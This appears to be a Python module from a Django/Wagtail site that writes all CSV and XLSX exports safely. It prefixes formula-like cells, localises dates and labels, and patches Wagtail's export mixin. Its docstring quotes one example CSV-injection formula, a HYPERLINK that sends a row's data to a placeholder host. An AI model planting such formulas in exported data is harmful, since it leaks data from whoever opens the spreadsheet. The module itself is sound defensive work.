"""Every spreadsheet the platform hands out, CSV or XLSX, is written through this module.

Why one place: exports carry what visitors typed (an inquiry's name, a complaint's
subject, a search term). Opened in Excel or LibreOffice, a CSV cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula (OWASP's "CSV
injection": ``=HYPERLINK("http://x/?"&A1,"Click")`` sends the row away). So:

- A text cell that starts like a formula gets a leading single quote in CSV, as OWASP
  advises. In XLSX it is stored as text (never a formula) with Excel's "quote prefix",
  so it shows as typed and stays text when someone edits the cell. Numbers stay numbers:
  a negative number is a number cell, not text.
- Values read as a person reads them, in the active (admin) language: a choice's label
  rather than its code (``Đã gửi``, not ``sent``), Có/Không (Yes/No) for booleans, model
  rows by name. Datetimes are in Hanoi time to the minute, ``2026-12-07 14:05``; dates
  are ISO, ``2026-12-07``: a spreadsheet reads ISO the same way in every locale, while
  ``07/12/2026`` is read month-first by an English Excel (the admin's own date bug).
  XLSX has real date cells in the same two formats.
- CSV is UTF-8 with a byte-order mark and says ``charset=utf-8``: without the mark
  Excel reads the file in the machine's code page and Vietnamese comes out garbled.

Wagtail's ``SpreadsheetExportMixin`` is the base of every export of the admin: our model
viewsets' index views and reports, and Wagtail's own (site history, page reports,
workflows, redirects, form submissions, and the search terms report, which lists what
anonymous visitors typed). It has no setting for cell values, so :func:`install` (from
``OpsConfig.ready``) puts the hooks of :class:`SafeSpreadsheetExport` on that base class
once: no view, ours or Wagtail's, can forget them. Hand-written exports build their
response with :func:`csv_response`. ``tests/exports/test_every_export.py`` walks every
export the admin registers, and fails on any module but this one that writes CSV or XLSX.
"""

import csv
from collections import OrderedDict
from datetime import date, datetime, time
from decimal import Decimal
from zoneinfo import ZoneInfo

from django.conf import settings
from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone, translation
from django.utils.encoding import force_str
from django.utils.translation import gettext

CSV = "csv"
XLSX = "xlsx"
BOM = "\ufeff"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
# What Excel, LibreOffice and Google Sheets take as the start of a formula (OWASP).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
DATETIME_XLSX = "yyyy-mm-dd hh:mm"
DATE_XLSX = "yyyy-mm-dd"
TIME_XLSX = "hh:mm"
XLSX_MAX_TEXT = 32767  # characters Excel holds in one cell


def neutralise(text):
    """``text`` as a spreadsheet shows it and never runs it: OWASP's leading quote."""
    return "'" + text if text.startswith(FORMULA_START) else text


def plain(value):
    """A cell's value as people read it: text, a number, or a Hanoi date/time."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return gettext("Yes") if value else gettext("No")
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime):
        if timezone.is_aware(value):
            value = value.astimezone(ZoneInfo(settings.TIME_ZONE))
        return value.replace(second=0, microsecond=0, tzinfo=None)
    if isinstance(value, date):
        return value
    if isinstance(value, time):
        return value.replace(second=0, microsecond=0, tzinfo=None)
    if isinstance(value, list | tuple | set | frozenset):
        return ", ".join(str(csv_cell(item, quote=False)) for item in value)
    return force_str(value)


def csv_cell(value, quote=True):
    """One CSV field: text (neutralised) or a number."""
    value = plain(value)
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, time):
        return value.isoformat(timespec="minutes")
    if isinstance(value, str):
        # A NUL cannot be written by the csv module and means nothing to a reader.
        value = value.replace("\x00", "")
        return neutralise(value) if quote else value
    return value


def xlsx_cell(worksheet, value):
    """One XLSX cell: a text cell that is never a formula, a number, or a date cell."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = plain(value)
    if isinstance(value, str):
        # Control characters make openpyxl refuse the whole file; Excel caps a cell.
        value = ILLEGAL_CHARACTERS_RE.sub("", value)[:XLSX_MAX_TEXT]
    cell = WriteOnlyCell(worksheet, value)
    if isinstance(value, str):
        cell.data_type = "s"
        cell.quotePrefix = value.startswith(FORMULA_START)
    elif isinstance(value, datetime):
        cell.number_format = DATETIME_XLSX
    elif isinstance(value, date):
        cell.number_format = DATE_XLSX
    elif isinstance(value, time):
        cell.number_format = TIME_XLSX
    return cell


def labelled(item, accessor):
    """``item``'s value at the dotted ``accessor``, a choice's label rather than its code."""
    from wagtail.coreutils import multigetattr

    value = multigetattr(item, accessor)
    owner_path, _dot, name = accessor.rpartition(".")
    owner = multigetattr(item, owner_path) if owner_path else item
    display = getattr(owner, f"get_{name}_display", None)
    return display() if callable(display) else value


class _Echo:
    def write(self, value):
        return value


def in_language(chunks, language):
    """Produce each chunk with ``language`` active: a streamed body is written after the
    view has returned, when the admin's language is no longer active."""
    iterator = iter(chunks)
    while True:
        with translation.override(language):
            try:
                chunk = next(iterator)
            except StopIteration:
                return
        yield chunk


def _disposition(filename):
    return f'attachment; filename="{filename}"'


def csv_lines(headings, rows):
    """The lines of a CSV file (BOM first) for ``headings`` and ``rows`` of values."""
    writer = csv.writer(_Echo())
    yield BOM
    yield writer.writerow([csv_cell(heading) for heading in headings])
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_response(filename, headings, rows):
    """A CSV download (``filename`` with its extension) of ``rows``, written now."""
    response = HttpResponse(content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = _disposition(filename)
    for line in csv_lines(headings, rows):
        response.write(line)
    return response


def streamed_csv_response(filename, lines):
    """A streamed CSV download of already written ``lines``, BOM first, each line produced
    in the language active now."""

    def body():
        yield BOM
        yield from lines

    response = StreamingHttpResponse(
        in_language(body(), translation.get_language()), content_type=CSV_CONTENT_TYPE
    )
    response["Content-Disposition"] = _disposition(filename)
    return response


class SafeSpreadsheetExport:
    """The hooks :func:`install` puts on Wagtail's ``SpreadsheetExportMixin`` (Wagtail 8.0:
    ``to_row_dict`` → ``preprocess_field_value`` → ``write_csv_row`` / ``generate_xlsx_row``,
    and ``write_csv_response`` for the file)."""

    def to_row_dict(self, item):
        return OrderedDict((field, labelled(item, field)) for field in self.list_export)

    def preprocess_field_value(self, field, value, export_format):
        # A view's own per-field conversion (Wagtail's reports name content types this
        # way) comes first; what it returns is still made safe.
        convert = self.custom_field_preprocess.get(field, {}).get(export_format)
        if convert is not None:
            value = convert(value)
        return csv_cell(value) if export_format == CSV else plain(value)

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for field, value in row_dict.items():
            yield xlsx_cell(worksheet, self.preprocess_field_value(field, value, XLSX))

    def get_heading(self, queryset, field):
        # Headings can be typed by users too (a form page's field labels).
        return neutralise(_wagtail_get_heading(self, queryset, field))

    def write_csv_response(self, queryset):
        return streamed_csv_response(f"{self.get_filename()}.csv", self.stream_csv(queryset))


HOOKS = [
    "to_row_dict",
    "preprocess_field_value",
    "generate_xlsx_row",
    "get_heading",
    "write_csv_response",
]
_wagtail_get_heading = None


def install():
    """Make every admin export safe: put the hooks above on Wagtail's base class."""
    global _wagtail_get_heading
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if _wagtail_get_heading is None:
        _wagtail_get_heading = SpreadsheetExportMixin.get_heading
    for name in HOOKS:
        setattr(SpreadsheetExportMixin, name, getattr(SafeSpreadsheetExport, name))


def installed():
    """Whether Wagtail's export base class has this module's hooks (the tests ask)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    return all(
        getattr(SpreadsheetExportMixin, name) is getattr(SafeSpreadsheetExport, name)
        for name in HOOKS
    )
